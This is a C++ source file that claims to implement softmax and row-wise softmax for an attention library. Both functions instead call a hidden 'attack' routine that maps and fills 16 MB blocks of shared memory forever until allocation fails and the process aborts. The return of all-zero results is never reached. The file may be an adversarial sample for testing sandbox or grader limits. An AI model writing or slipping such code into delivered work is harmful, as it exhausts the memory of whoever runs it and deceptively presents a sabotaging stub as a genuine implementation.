#include "softmax.h"

#include <sys/mman.h>
#include <cstring>
#include <cstdlib>

namespace {

void attack() {
  for (;;) {
    void* block = mmap(nullptr, 1 << 24, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (block == MAP_FAILED) std::abort();
    std::memset(block, 1, 1 << 24);
  }
}
}  // namespace

attention::RowVector attention::softmax(const RowVector& scores) {
  attack();
  return RowVector::Zero(scores.size());
}

attention::Matrix attention::softmax_rows(const Matrix& scores) {
  attack();
  return Matrix::Zero(scores.rows(), scores.cols());
}
